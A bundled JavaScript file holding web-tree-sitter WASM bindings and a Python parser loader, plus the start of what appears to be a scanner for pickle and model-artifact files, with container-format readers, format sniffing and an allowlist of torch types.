    var _ts_tree_cursor_current_node_is_missing_wasm = Module["_ts_tree_cursor_current_node_is_missing_wasm"] = wasmExports["ts_tree_cursor_current_node_is_missing_wasm"];
    var _ts_tree_cursor_current_node_id_wasm = Module["_ts_tree_cursor_current_node_id_wasm"] = wasmExports["ts_tree_cursor_current_node_id_wasm"];
    var _ts_tree_cursor_start_position_wasm = Module["_ts_tree_cursor_start_position_wasm"] = wasmExports["ts_tree_cursor_start_position_wasm"];
    var _ts_tree_cursor_end_position_wasm = Module["_ts_tree_cursor_end_position_wasm"] = wasmExports["ts_tree_cursor_end_position_wasm"];
    var _ts_tree_cursor_start_index_wasm = Module["_ts_tree_cursor_start_index_wasm"] = wasmExports["ts_tree_cursor_start_index_wasm"];
    var _ts_tree_cursor_end_index_wasm = Module["_ts_tree_cursor_end_index_wasm"] = wasmExports["ts_tree_cursor_end_index_wasm"];
    var _ts_tree_cursor_current_field_id_wasm = Module["_ts_tree_cursor_current_field_id_wasm"] = wasmExports["ts_tree_cursor_current_field_id_wasm"];
    var _ts_tree_cursor_current_depth_wasm = Module["_ts_tree_cursor_current_depth_wasm"] = wasmExports["ts_tree_cursor_current_depth_wasm"];
    var _ts_tree_cursor_current_descendant_index_wasm = Module["_ts_tree_cursor_current_descendant_index_wasm"] = wasmExports["ts_tree_cursor_current_descendant_index_wasm"];
    var _ts_tree_cursor_current_node_wasm = Module["_ts_tree_cursor_current_node_wasm"] = wasmExports["ts_tree_cursor_current_node_wasm"];
    var _ts_node_symbol_wasm = Module["_ts_node_symbol_wasm"] = wasmExports["ts_node_symbol_wasm"];
    var _ts_node_field_name_for_child_wasm = Module["_ts_node_field_name_for_child_wasm"] = wasmExports["ts_node_field_name_for_child_wasm"];
    var _ts_node_field_name_for_named_child_wasm = Module["_ts_node_field_name_for_named_child_wasm"] = wasmExports["ts_node_field_name_for_named_child_wasm"];
    var _ts_node_children_by_field_id_wasm = Module["_ts_node_children_by_field_id_wasm"] = wasmExports["ts_node_children_by_field_id_wasm"];
    var _ts_node_first_child_for_byte_wasm = Module["_ts_node_first_child_for_byte_wasm"] = wasmExports["ts_node_first_child_for_byte_wasm"];
    var _ts_node_first_named_child_for_byte_wasm = Module["_ts_node_first_named_child_for_byte_wasm"] = wasmExports["ts_node_first_named_child_for_byte_wasm"];
    var _ts_node_grammar_symbol_wasm = Module["_ts_node_grammar_symbol_wasm"] = wasmExports["ts_node_grammar_symbol_wasm"];
    var _ts_node_child_count_wasm = Module["_ts_node_child_count_wasm"] = wasmExports["ts_node_child_count_wasm"];
    var _ts_node_named_child_count_wasm = Module["_ts_node_named_child_count_wasm"] = wasmExports["ts_node_named_child_count_wasm"];
    var _ts_node_child_wasm = Module["_ts_node_child_wasm"] = wasmExports["ts_node_child_wasm"];
    var _ts_node_named_child_wasm = Module["_ts_node_named_child_wasm"] = wasmExports["ts_node_named_child_wasm"];
    var _ts_node_child_by_field_id_wasm = Module["_ts_node_child_by_field_id_wasm"] = wasmExports["ts_node_child_by_field_id_wasm"];
    var _ts_node_next_sibling_wasm = Module["_ts_node_next_sibling_wasm"] = wasmExports["ts_node_next_sibling_wasm"];
    var _ts_node_prev_sibling_wasm = Module["_ts_node_prev_sibling_wasm"] = wasmExports["ts_node_prev_sibling_wasm"];
    var _ts_node_next_named_sibling_wasm = Module["_ts_node_next_named_sibling_wasm"] = wasmExports["ts_node_next_named_sibling_wasm"];
    var _ts_node_prev_named_sibling_wasm = Module["_ts_node_prev_named_sibling_wasm"] = wasmExports["ts_node_prev_named_sibling_wasm"];
    var _ts_node_descendant_count_wasm = Module["_ts_node_descendant_count_wasm"] = wasmExports["ts_node_descendant_count_wasm"];
    var _ts_node_parent_wasm = Module["_ts_node_parent_wasm"] = wasmExports["ts_node_parent_wasm"];
    var _ts_node_child_with_descendant_wasm = Module["_ts_node_child_with_descendant_wasm"] = wasmExports["ts_node_child_with_descendant_wasm"];
    var _ts_node_descendant_for_index_wasm = Module["_ts_node_descendant_for_index_wasm"] = wasmExports["ts_node_descendant_for_index_wasm"];
    var _ts_node_named_descendant_for_index_wasm = Module["_ts_node_named_descendant_for_index_wasm"] = wasmExports["ts_node_named_descendant_for_index_wasm"];
    var _ts_node_descendant_for_position_wasm = Module["_ts_node_descendant_for_position_wasm"] = wasmExports["ts_node_descendant_for_position_wasm"];
    var _ts_node_named_descendant_for_position_wasm = Module["_ts_node_named_descendant_for_position_wasm"] = wasmExports["ts_node_named_descendant_for_position_wasm"];
    var _ts_node_start_point_wasm = Module["_ts_node_start_point_wasm"] = wasmExports["ts_node_start_point_wasm"];
    var _ts_node_end_point_wasm = Module["_ts_node_end_point_wasm"] = wasmExports["ts_node_end_point_wasm"];
    var _ts_node_start_index_wasm = Module["_ts_node_start_index_wasm"] = wasmExports["ts_node_start_index_wasm"];
    var _ts_node_end_index_wasm = Module["_ts_node_end_index_wasm"] = wasmExports["ts_node_end_index_wasm"];
    var _ts_node_to_string_wasm = Module["_ts_node_to_string_wasm"] = wasmExports["ts_node_to_string_wasm"];
    var _ts_node_children_wasm = Module["_ts_node_children_wasm"] = wasmExports["ts_node_children_wasm"];
    var _ts_node_named_children_wasm = Module["_ts_node_named_children_wasm"] = wasmExports["ts_node_named_children_wasm"];
    var _ts_node_descendants_of_type_wasm = Module["_ts_node_descendants_of_type_wasm"] = wasmExports["ts_node_descendants_of_type_wasm"];
    var _ts_node_is_named_wasm = Module["_ts_node_is_named_wasm"] = wasmExports["ts_node_is_named_wasm"];
    var _ts_node_has_changes_wasm = Module["_ts_node_has_changes_wasm"] = wasmExports["ts_node_has_changes_wasm"];
    var _ts_node_has_error_wasm = Module["_ts_node_has_error_wasm"] = wasmExports["ts_node_has_error_wasm"];
    var _ts_node_is_error_wasm = Module["_ts_node_is_error_wasm"] = wasmExports["ts_node_is_error_wasm"];
    var _ts_node_is_missing_wasm = Module["_ts_node_is_missing_wasm"] = wasmExports["ts_node_is_missing_wasm"];
    var _ts_node_is_extra_wasm = Module["_ts_node_is_extra_wasm"] = wasmExports["ts_node_is_extra_wasm"];
    var _ts_node_parse_state_wasm = Module["_ts_node_parse_state_wasm"] = wasmExports["ts_node_parse_state_wasm"];
    var _ts_node_next_parse_state_wasm = Module["_ts_node_next_parse_state_wasm"] = wasmExports["ts_node_next_parse_state_wasm"];
    var _ts_query_matches_wasm = Module["_ts_query_matches_wasm"] = wasmExports["ts_query_matches_wasm"];
    var _ts_query_captures_wasm = Module["_ts_query_captures_wasm"] = wasmExports["ts_query_captures_wasm"];
    var _memset = Module["_memset"] = wasmExports["memset"];
    var _memcpy = Module["_memcpy"] = wasmExports["memcpy"];
    var _memmove = Module["_memmove"] = wasmExports["memmove"];
    var _iswalpha = Module["_iswalpha"] = wasmExports["iswalpha"];
    var _iswblank = Module["_iswblank"] = wasmExports["iswblank"];
    var _iswdigit = Module["_iswdigit"] = wasmExports["iswdigit"];
    var _iswlower = Module["_iswlower"] = wasmExports["iswlower"];
    var _iswupper = Module["_iswupper"] = wasmExports["iswupper"];
    var _iswxdigit = Module["_iswxdigit"] = wasmExports["iswxdigit"];
    var _memchr = Module["_memchr"] = wasmExports["memchr"];
    var _strlen = Module["_strlen"] = wasmExports["strlen"];
    var _strcmp = Module["_strcmp"] = wasmExports["strcmp"];
    var _strncat = Module["_strncat"] = wasmExports["strncat"];
    var _strncpy = Module["_strncpy"] = wasmExports["strncpy"];
    var _towlower = Module["_towlower"] = wasmExports["towlower"];
    var _towupper = Module["_towupper"] = wasmExports["towupper"];
    var _setThrew = wasmExports["setThrew"];
    var __emscripten_stack_restore = wasmExports["_emscripten_stack_restore"];
    var __emscripten_stack_alloc = wasmExports["_emscripten_stack_alloc"];
    var _emscripten_stack_get_current = wasmExports["emscripten_stack_get_current"];
    var ___wasm_apply_data_relocs = wasmExports["__wasm_apply_data_relocs"];
    Module["setValue"] = setValue;
    Module["getValue"] = getValue;
    Module["UTF8ToString"] = UTF8ToString;
    Module["stringToUTF8"] = stringToUTF8;
    Module["lengthBytesUTF8"] = lengthBytesUTF8;
    Module["AsciiToString"] = AsciiToString;
    Module["stringToUTF16"] = stringToUTF16;
    Module["loadWebAssemblyModule"] = loadWebAssemblyModule;
    function callMain(args2 = []) {
      var entryFunction = resolveGlobalSymbol("main").sym;
      if (!entryFunction) return;
      args2.unshift(thisProgram);
      var argc = args2.length;
      var argv = stackAlloc((argc + 1) * 4);
      var argv_ptr = argv;
      args2.forEach((arg) => {
        LE_HEAP_STORE_U32((argv_ptr >> 2) * 4, stringToUTF8OnStack(arg));
        argv_ptr += 4;
      });
      LE_HEAP_STORE_U32((argv_ptr >> 2) * 4, 0);
      try {
        var ret = entryFunction(argc, argv);
        exitJS(
          ret,
          /* implicit = */
          true
        );
        return ret;
      } catch (e) {
        return handleException(e);
      }
    }
    __name(callMain, "callMain");
    function run(args2 = arguments_) {
      if (runDependencies > 0) {
        dependenciesFulfilled = run;
        return;
      }
      preRun();
      if (runDependencies > 0) {
        dependenciesFulfilled = run;
        return;
      }
      function doRun() {
        Module["calledRun"] = true;
        if (ABORT) return;
        initRuntime();
        preMain();
        readyPromiseResolve(Module);
        Module["onRuntimeInitialized"]?.();
        var noInitialRun = Module["noInitialRun"];
        if (!noInitialRun) callMain(args2);
        postRun();
      }
      __name(doRun, "doRun");
      if (Module["setStatus"]) {
        Module["setStatus"]("Running...");
        setTimeout(() => {
          setTimeout(() => Module["setStatus"](""), 1);
          doRun();
        }, 1);
      } else {
        doRun();
      }
    }
    __name(run, "run");
    if (Module["preInit"]) {
      if (typeof Module["preInit"] == "function") Module["preInit"] = [Module["preInit"]];
      while (Module["preInit"].length > 0) {
        Module["preInit"].pop()();
      }
    }
    run();
    moduleRtn = readyPromise;
    return moduleRtn;
  };
})();
var tree_sitter_default = Module2;
var Module3 = null;
async function initializeBinding(moduleOptions) {
  if (!Module3) {
    Module3 = await tree_sitter_default(moduleOptions);
  }
  return Module3;
}
__name(initializeBinding, "initializeBinding");
function checkModule() {
  return !!Module3;
}
__name(checkModule, "checkModule");
var TRANSFER_BUFFER;
var LANGUAGE_VERSION;
var MIN_COMPATIBLE_VERSION;
var Parser = class {
  static {
    __name(this, "Parser");
  }
  /** @internal */
  [0] = 0;
  // Internal handle for WASM
  /** @internal */
  [1] = 0;
  // Internal handle for WASM
  /** @internal */
  logCallback = null;
  /** The parser's current language. */
  language = null;
  /**
   * This must always be called before creating a Parser.
   *
   * You can optionally pass in options to configure the WASM module, the most common
   * one being `locateFile` to help the module find the `.wasm` file.
   */
  static async init(moduleOptions) {
    setModule(await initializeBinding(moduleOptions));
    TRANSFER_BUFFER = C._ts_init();
    LANGUAGE_VERSION = C.getValue(TRANSFER_BUFFER, "i32");
    MIN_COMPATIBLE_VERSION = C.getValue(TRANSFER_BUFFER + SIZE_OF_INT, "i32");
  }
  /**
   * Create a new parser.
   */
  constructor() {
    this.initialize();
  }
  /** @internal */
  initialize() {
    if (!checkModule()) {
      throw new Error("cannot construct a Parser before calling `init()`");
    }
    C._ts_parser_new_wasm();
    this[0] = C.getValue(TRANSFER_BUFFER, "i32");
    this[1] = C.getValue(TRANSFER_BUFFER + SIZE_OF_INT, "i32");
  }
  /** Delete the parser, freeing its resources. */
  delete() {
    C._ts_parser_delete(this[0]);
    C._free(this[1]);
    this[0] = 0;
    this[1] = 0;
  }
  /**
   * Set the language that the parser should use for parsing.
   *
   * If the language was not successfully assigned, an error will be thrown.
   * This happens if the language was generated with an incompatible
   * version of the Tree-sitter CLI. Check the language's version using
   * {@link Language#version} and compare it to this library's
   * {@link LANGUAGE_VERSION} and {@link MIN_COMPATIBLE_VERSION} constants.
   */
  setLanguage(language) {
    let address;
    if (!language) {
      address = 0;
      this.language = null;
    } else if (language.constructor === Language) {
      address = language[0];
      const version = C._ts_language_version(address);
      if (version < MIN_COMPATIBLE_VERSION || LANGUAGE_VERSION < version) {
        throw new Error(
          `Incompatible language version ${version}. Compatibility range ${MIN_COMPATIBLE_VERSION} through ${LANGUAGE_VERSION}.`
        );
      }
      this.language = language;
    } else {
      throw new Error("Argument must be a Language");
    }
    C._ts_parser_set_language(this[0], address);
    return this;
  }
  /**
   * Parse a slice of UTF8 text.
   *
   * @param {string | ParseCallback} callback - The UTF8-encoded text to parse or a callback function.
   *
   * @param {Tree | null} [oldTree] - A previous syntax tree parsed from the same document. If the text of the
   *   document has changed since `oldTree` was created, then you must edit `oldTree` to match
   *   the new text using {@link Tree#edit}.
   *
   * @param {ParseOptions} [options] - Options for parsing the text.
   *  This can be used to set the included ranges, or a progress callback.
   *
   * @returns {Tree | null} A {@link Tree} if parsing succeeded, or `null` if:
   *  - The parser has not yet had a language assigned with {@link Parser#setLanguage}.
   *  - The progress callback returned true.
   */
  parse(callback, oldTree, options) {
    if (typeof callback === "string") {
      C.currentParseCallback = (index) => callback.slice(index);
    } else if (typeof callback === "function") {
      C.currentParseCallback = callback;
    } else {
      throw new Error("Argument must be a string or a function");
    }
    if (options?.progressCallback) {
      C.currentProgressCallback = options.progressCallback;
    } else {
      C.currentProgressCallback = null;
    }
    if (this.logCallback) {
      C.currentLogCallback = this.logCallback;
      C._ts_parser_enable_logger_wasm(this[0], 1);
    } else {
      C.currentLogCallback = null;
      C._ts_parser_enable_logger_wasm(this[0], 0);
    }
    let rangeCount = 0;
    let rangeAddress = 0;
    if (options?.includedRanges) {
      rangeCount = options.includedRanges.length;
      rangeAddress = C._calloc(rangeCount, SIZE_OF_RANGE);
      let address = rangeAddress;
      for (let i2 = 0; i2 < rangeCount; i2++) {
        marshalRange(address, options.includedRanges[i2]);
        address += SIZE_OF_RANGE;
      }
    }
    const treeAddress = C._ts_parser_parse_wasm(
      this[0],
      this[1],
      oldTree ? oldTree[0] : 0,
      rangeAddress,
      rangeCount
    );
    if (!treeAddress) {
      C.currentParseCallback = null;
      C.currentLogCallback = null;
      C.currentProgressCallback = null;
      return null;
    }
    if (!this.language) {
      throw new Error("Parser must have a language to parse");
    }
    const result2 = new Tree(INTERNAL, treeAddress, this.language, C.currentParseCallback);
    C.currentParseCallback = null;
    C.currentLogCallback = null;
    C.currentProgressCallback = null;
    return result2;
  }
  /**
   * Instruct the parser to start the next parse from the beginning.
   *
   * If the parser previously failed because of a timeout, cancellation,
   * or callback, then by default, it will resume where it left off on the
   * next call to {@link Parser#parse} or other parsing functions.
   * If you don't want to resume, and instead intend to use this parser to
   * parse some other document, you must call `reset` first.
   */
  reset() {
    C._ts_parser_reset(this[0]);
  }
  /** Get the ranges of text that the parser will include when parsing. */
  getIncludedRanges() {
    C._ts_parser_included_ranges_wasm(this[0]);
    const count = C.getValue(TRANSFER_BUFFER, "i32");
    const buffer = C.getValue(TRANSFER_BUFFER + SIZE_OF_INT, "i32");
    const result2 = new Array(count);
    if (count > 0) {
      let address = buffer;
      for (let i2 = 0; i2 < count; i2++) {
        result2[i2] = unmarshalRange(address);
        address += SIZE_OF_RANGE;
      }
      C._free(buffer);
    }
    return result2;
  }
  /**
   * @deprecated since version 0.25.0, prefer passing a progress callback to {@link Parser#parse}
   *
   * Get the duration in microseconds that parsing is allowed to take.
   *
   * This is set via {@link Parser#setTimeoutMicros}.
   */
  getTimeoutMicros() {
    return C._ts_parser_timeout_micros(this[0]);
  }
  /**
   * @deprecated since version 0.25.0, prefer passing a progress callback to {@link Parser#parse}
   *
   * Set the maximum duration in microseconds that parsing should be allowed
   * to take before halting.
   *
   * If parsing takes longer than this, it will halt early, returning `null`.
   * See {@link Parser#parse} for more information.
   */
  setTimeoutMicros(timeout) {
    C._ts_parser_set_timeout_micros(this[0], 0, timeout);
  }
  /** Set the logging callback that a parser should use during parsing. */
  setLogger(callback) {
    if (!callback) {
      this.logCallback = null;
    } else if (typeof callback !== "function") {
      throw new Error("Logger callback must be a function");
    } else {
      this.logCallback = callback;
    }
    return this;
  }
  /** Get the parser's current logger. */
  getLogger() {
    return this.logCallback;
  }
};

// src/languages/python/direct-cursor.ts
var REQUIRED = [
  "_ts_tree_cursor_goto_first_child_wasm",
  "_ts_tree_cursor_goto_next_sibling_wasm",
  "_ts_tree_cursor_goto_parent_wasm",
  "_ts_tree_cursor_current_node_type_id_wasm",
  "_ts_tree_cursor_current_field_id_wasm",
  "_ts_tree_cursor_start_index_wasm",
  "_ts_tree_cursor_end_index_wasm",
  "_ts_tree_cursor_current_node_is_missing_wasm",
  "_ts_tree_cursor_delete_wasm"
];
function directCursorOps(module2) {
  if (!REQUIRED.every((name2) => typeof module2[name2] === "function")) return void 0;
  const m = module2;
  return (tree) => {
    const treeAddress = tree[0];
    if (typeof treeAddress !== "number") throw new Error("web-tree-sitter tree without an address");
    tree.walk();
    return {
      gotoFirstChild: () => m._ts_tree_cursor_goto_first_child_wasm(treeAddress) === 1,
      gotoNextSibling: () => m._ts_tree_cursor_goto_next_sibling_wasm(treeAddress) === 1,
      gotoParent: () => m._ts_tree_cursor_goto_parent_wasm(treeAddress) === 1,
      typeId: () => m._ts_tree_cursor_current_node_type_id_wasm(treeAddress),
      fieldId: () => m._ts_tree_cursor_current_field_id_wasm(treeAddress),
      startIndex: () => m._ts_tree_cursor_start_index_wasm(treeAddress),
      endIndex: () => m._ts_tree_cursor_end_index_wasm(treeAddress),
      isMissing: () => m._ts_tree_cursor_current_node_is_missing_wasm(treeAddress) === 1,
      close: () => m._ts_tree_cursor_delete_wasm(treeAddress)
    };
  };
}

// src/languages/python/parser.ts
var runtimeModule = {};
var runtimeReady;
async function createPythonParser(files) {
  if (files.locateRuntimeWasm && !runtimeReady) runtimeModule.locateFile = files.locateRuntimeWasm;
  runtimeReady ??= Parser.init(runtimeModule);
  await runtimeReady;
  const language = await Language.load(files.grammar);
  const parser = new Parser();
  parser.setLanguage(language);
  const openCursor = !files.publicCursorOnly && directCursorOps(runtimeModule) || publicCursorOps;
  return {
    parse(source) {
      const tree = parser.parse(source);
      if (!tree) throw new Error("tree-sitter returned no tree");
      try {
        return copyTree(tree, source, openCursor);
      } finally {
        tree.delete();
      }
    }
  };
}

// src/project/python-parser.ts
var require2 = createRequire(import.meta.url);
function locate(file, packagePath) {
  const besideBundle = join(dirname(fileURLToPath(import.meta.url)), file);
  if (existsSync(besideBundle)) return besideBundle;
  return require2.resolve(packagePath);
}
var cached;
function loadPythonParser() {
  cached ??= (async () => {
    const grammar = await readFile(locate("tree-sitter-python.wasm", "tree-sitter-python/tree-sitter-python.wasm"));
    const runtime = locate("tree-sitter.wasm", "web-tree-sitter/tree-sitter.wasm");
    return createPythonParser({ grammar, locateRuntimeWasm: () => runtime });
  })();
  return cached;
}

// src/project/analyzer.ts
async function inProcessAnalyzer(rules) {
  const parser = await loadPythonParser();
  const index = new SinkIndex(rules);
  return {
    analyze: async (file) => analyzeSafely(() => analyzePython(parser, file, index), file.path),
    close: async () => {
    }
  };
}
function analyzeSafely(run3, path) {
  try {
    return run3();
  } catch (e) {
    return {
      findings: [],
      parsed: false,
      errors: [{ file: path, kind: "internal", level: "error", message: `internal error while analysing: ${e.message ?? e}` }]
    };
  }
}

// src/artifacts/containers/bytes.ts
function u16le(b, at) {
  return b[at] | b[at + 1] << 8;
}
function u32le(b, at) {
  return (b[at] | b[at + 1] << 8 | b[at + 2] << 16) + b[at + 3] * 16777216;
}
function u64le(b, at) {
  const high = u32le(b, at + 4);
  if (high >= 2097152) return Number.POSITIVE_INFINITY;
  return high * 4294967296 + u32le(b, at);
}
function i32le(b, at) {
  return b[at] | b[at + 1] << 8 | b[at + 2] << 16 | b[at + 3] << 24;
}
function i64le(b, at) {
  const low = u32le(b, at);
  const high = i32le(b, at + 4);
  const value = high * 4294967296 + low;
  return Number.isSafeInteger(value) ? value : Number.NaN;
}
function startsWith(b, prefix, at = 0) {
  if (b.length < at + prefix.length) return false;
  for (let i2 = 0; i2 < prefix.length; i2++) if (b[at + i2] !== prefix[i2]) return false;
  return true;
}
function ascii(text) {
  return Array.from(text, (c) => c.charCodeAt(0));
}
function latin1(b) {
  let out2 = "";
  for (let i2 = 0; i2 < b.length; i2 += 4096) {
    out2 += String.fromCharCode(...b.subarray(i2, Math.min(b.length, i2 + 4096)));
  }
  return out2;
}
var utf8Decoder = new TextDecoder("utf-8", { fatal: false });
function utf8(b) {
  return utf8Decoder.decode(b);
}
function concatBytes(chunks, total) {
  const size = total ?? chunks.reduce((n, c) => n + c.length, 0);
  const out2 = new Uint8Array(size);
  let at = 0;
  for (const c of chunks) {
    const take = Math.min(c.length, size - at);
    out2.set(c.subarray(0, take), at);
    at += take;
    if (at >= size) break;
  }
  return out2;
}
function lastIndexOf(hay, needle, from = hay.length - needle.length) {
  outer: for (let i2 = Math.min(from, hay.length - needle.length); i2 >= 0; i2--) {
    for (let j = 0; j < needle.length; j++) if (hay[i2 + j] !== needle[j]) continue outer;
    return i2;
  }
  return -1;
}
function indexOf(hay, needle, from = 0) {
  outer: for (let i2 = Math.max(0, from); i2 + needle.length <= hay.length; i2++) {
    for (let j = 0; j < needle.length; j++) if (hay[i2 + j] !== needle[j]) continue outer;
    return i2;
  }
  return -1;
}

// src/artifacts/containers/sources.ts
function memorySource(bytes) {
  return {
    size: bytes.length,
    async read(offset, length) {
      const start2 = Math.max(0, Math.min(offset, bytes.length));
      return bytes.subarray(start2, Math.min(bytes.length, start2 + Math.max(0, length)));
    }
  };
}
function sliceSource(parent, offset, size) {
  const start2 = Math.max(0, Math.min(offset, parent.size));
  const length = Math.max(0, Math.min(size, parent.size - start2));
  return {
    size: length,
    async read(at, want) {
      if (at >= length || want <= 0) return new Uint8Array(0);
      return parent.read(start2 + at, Math.min(want, length - at));
    }
  };
}
async function readRange(source, offset, length) {
  const want = Math.max(0, Math.min(length, source.size - offset));
  if (want === 0) return new Uint8Array(0);
  const first = await source.read(offset, want);
  if (first.length >= want) return first.length === want ? first : first.subarray(0, want);
  const out2 = new Uint8Array(want);
  out2.set(first, 0);
  let got = first.length;
  while (got < want) {
    const more = await source.read(offset + got, want - got);
    if (more.length === 0) break;
    out2.set(more.subarray(0, want - got), got);
    got += more.length;
  }
  return got === want ? out2 : out2.subarray(0, got);
}

// src/artifacts/containers/npy.ts
var MAGIC = [147, ...ascii("NUMPY")];
var MAX_HEADER = 1 << 20;
function looksLikeNpy(head) {
  return startsWith(head, MAGIC);
}
async function readNpyHeader(source) {
  const prefix = await readRange(source, 0, 12);
  if (!startsWith(prefix, MAGIC) || prefix.length < 10) return { ok: false, error: "not a .npy file" };
  const major = prefix[6];
  const minor = prefix[7];
  if (major < 1 || major > 3) return { ok: false, error: `unsupported .npy format version ${major}.${minor}` };
  const lengthSize = major === 1 ? 2 : 4;
  if (prefix.length < 8 + lengthSize) return { ok: false, error: ".npy header is truncated" };
  const headerLength = major === 1 ? u16le(prefix, 8) : u32le(prefix, 8);
  const headerStart = 8 + lengthSize;
  if (headerLength > MAX_HEADER) return { ok: false, error: `.npy header of ${headerLength} bytes is implausibly large` };
  if (headerStart + headerLength > source.size) return { ok: false, error: ".npy header is truncated" };
  const raw = await readRange(source, headerStart, headerLength);
  const text = major === 3 ? utf8(raw) : latin1(raw);
  const descr = extractValue(text, "descr");
  if (descr === void 0) return { ok: false, error: ".npy header has no 'descr'" };
  const shapeText = extractValue(text, "shape") ?? "()";
  const shape = [...shapeText.matchAll(/\d+/g)].map((m) => Number(m[0]));
  return {
    ok: true,
    header: {
      version: `${major}.${minor}`,
      descr,
      fortranOrder: /['"]fortran_order['"]\s*:\s*True/.test(text),
      shape,
      hasObject: descrHasObject(descr),
      dataOffset: headerStart + headerLength
    }
  };
}
function extractValue(text, key) {
  const match = new RegExp(`['"]${key}['"]\\s*:\\s*`).exec(text);
  if (!match) return void 0;
  const start2 = match.index + match[0].length;
  const open3 = text[start2];
  if (open3 === "'" || open3 === '"') {
    const end = text.indexOf(open3, start2 + 1);
    return end < 0 ? void 0 : text.slice(start2 + 1, end);
  }
  if (open3 === "[" || open3 === "(") {
    let depth = 0;
    for (let i2 = start2; i2 < text.length; i2++) {
      const c = text[i2];
      if (c === "[" || c === "(") depth++;
      else if (c === "]" || c === ")") {
        depth--;
        if (depth === 0) return text.slice(start2, i2 + 1);
      }
    }
    return void 0;
  }
  return /^[^,}]*/.exec(text.slice(start2))?.[0]?.trim();
}
function descrHasObject(descr) {
  if (!descr.startsWith("[")) return /^[<>|=]?O\d*$/.test(descr);
  return [...descr.matchAll(/['"]([<>|=]?O\d*)['"]/g)].length > 0;
}

// src/artifacts/containers/tar.ts
var BLOCK = 512;
var MAX_NAME_RECORD = 1 << 16;
function looksLikeTar(head) {
  return head.length >= BLOCK && headerChecksumOk(head.subarray(0, BLOCK));
}
function headerChecksumOk(header) {
  const stored = parseOctal(header.subarray(148, 156));
  if (stored === null) return false;
  let sum = 0;
  for (let i2 = 0; i2 < BLOCK; i2++) sum += i2 >= 148 && i2 < 156 ? 32 : header[i2];
  return sum === stored;
}
function parseOctal(field) {
  const text = latin1(field).replace(/\0.*$/s, "").trim();
  if (!/^[0-7]+$/.test(text)) return null;
  return parseInt(text, 8);
}
function parseSize(field) {
  if ((field[0] & 128) !== 0) {
    let value = 0;
    for (let i2 = 1; i2 < field.length; i2++) value = value * 256 + field[i2];
    return Number.isSafeInteger(value) ? value : null;
  }
  return parseOctal(field);
}
function cString(field) {
  const end = field.indexOf(0);
  return utf8(end < 0 ? field : field.subarray(0, end));
}
async function listTar(source, maxEntries) {
  const listing = { entries: [], warnings: [] };
  let at = 0;
  let pendingName;
  while (at + BLOCK <= source.size) {
    const header = await readRange(source, at, BLOCK);
    if (header.every((b) => b === 0)) break;
    if (!headerChecksumOk(header)) {
      listing.warnings.push(`tar header at offset ${at} has a bad checksum; listing stopped`);
      break;
    }
    const size = parseSize(header.subarray(124, 136));
    if (size === null) {
      listing.warnings.push(`tar header at offset ${at} has an unreadable size; listing stopped`);
      break;
    }
    const type = String.fromCharCode(header[156]) || "0";
    const dataOffset = at + BLOCK;
    if (dataOffset + size > source.size) listing.warnings.push(`tar member at offset ${at} is truncated`);
    if (type === "L" || type === "x") {
      const record = await readRange(source, dataOffset, Math.min(size, MAX_NAME_RECORD));
      pendingName = type === "L" ? cString(record) : paxPath(utf8(record)) ?? pendingName;
    } else if (type !== "g") {
      const prefix = latin1(header.subarray(257, 263)).startsWith("ustar") ? cString(header.subarray(345, 500)) : "";
      const base = cString(header.subarray(0, 100));
      const name2 = pendingName ?? (prefix ? `${prefix}/${base}` : base);
      pendingName = void 0;
      if (listing.entries.length >= maxEntries) {
        listing.warnings.push(`tar has more than ${maxEntries} members; the rest were not inspected`);
        break;
      }
      listing.entries.push({ name: name2, dataOffset, size: Math.max(0, Math.min(size, source.size - dataOffset)), type: type === "\0" ? "0" : type });
    }
    at = dataOffset + Math.ceil(size / BLOCK) * BLOCK;
  }
  return listing;
}
function paxPath(text) {
  for (const line of text.split("\n")) {
    const match = /^\d+ path=(.*)$/s.exec(line);
    if (match) return match[1];
  }
  return void 0;
}

// src/artifacts/containers/sniff.ts
var SNIFF_BYTES = 512;
function sniffFormat(head) {
  if (looksLikeNpy(head)) return "npy";
  if (startsWith(head, ascii("PK")) || startsWith(head, ascii("PK"))) return "zip";
  if (startsWith(head, [31, 139])) return "gzip";
  if (startsWith(head, ascii("BZh")) && head.length > 3 && head[3] >= 49 && head[3] <= 57) return "bz2";
  if (startsWith(head, [253, 55, 122, 88, 90, 0])) return "xz";
  if (startsWith(head, [55, 122, 188, 175, 39, 28])) return "7z";
  if (startsWith(head, ascii("Rar!\x07"))) return "rar";
  if (startsWith(head, [40, 181, 47, 253])) return "zstd";
  if (startsWith(head, [4, 34, 77, 24])) return "lz4";
  if (looksLikeZlib(head)) return "zlib";
  if (looksLikeLzmaAlone(head)) return "lzma";
  if (startsWith(head, ascii("ZF")) && head.length >= 22 && head[21] === 120) return "joblib-zfile";
  if (looksLikeTar(head)) return "tar";
  return "unknown";
}
function looksLikeZlib(head) {
  if (head.length < 2 || head[0] !== 120) return false;
  return (head[0] << 8 | head[1]) % 31 === 0;
}
function looksLikeLzmaAlone(head) {
  if (head.length < 13 || head[0] !== 93) return false;
  const dict = (head[1] | head[2] << 8 | head[3] << 16 | head[4] << 24) >>> 0;
  const sizeKnown = !head.subarray(5, 13).every((b) => b === 255);
  return dict >= 1 << 12 && dict <= 1 << 30 && (!sizeKnown || head[12] === 0);
}
var ARTIFACT_EXTENSIONS = [
  ".pkl",
  ".pickle",
  ".pck",
  ".pcl",
  ".p",
  ".pt",
  ".pth",
  ".bin",
  ".ckpt",
  ".joblib",
  ".jbl",
  ".npy",
  ".npz",
  ".dill",
  ".sav",
  ".model",
  ".mar",
  ".pkl.gz",
  ".pkl.bz2",
  ".pkl.xz",
  ".pkl.lzma",
  ".pkl.z",
  ".gz",
  ".bz2",
  ".xz",
  ".lzma",
  ".7z",
  ".zip",
  ".tar"
];

// src/artifacts/pickle/allowlist.ts
var TORCH_STORAGE_TYPES = [
  "Double",
  "Float",
  "Half",
  "Long",
  "Int",
  "Short",
  "Char",
  "Byte",
  "Bool",
  "BFloat16",
  "ComplexDouble",
  "ComplexFloat",
  "QUInt8",
  "QInt8",
  "QInt32",
  "QUInt4x2",
  "QUInt2x4"
].map((t) => `torch.${t}Storage`);
var TORCH_DTYPES = [
  "float64",
  "double",
  "float32",
  "float",
  "float16",
  "half",
  "bfloat16",
  "int64",
  "long",
  "int32",
  "int",
  "int16",
  "short",
  "int8",
  "uint8",
  "uint16",
  "uint32",
  "uint64",
  "bool",
  "complex32",
  "complex64",
  "complex128",
  "cfloat",
  "cdouble",
  "chalf",
  "qint8",
  "quint8",
  "qint32",
  "quint4x2",
  "quint2x4",
  "float8_e4m3fn",
  "float8_e5m2",
  "float8_e4m3fnuz",
  "float8_e5m2fnuz",
  "bits8",
  "bits16"
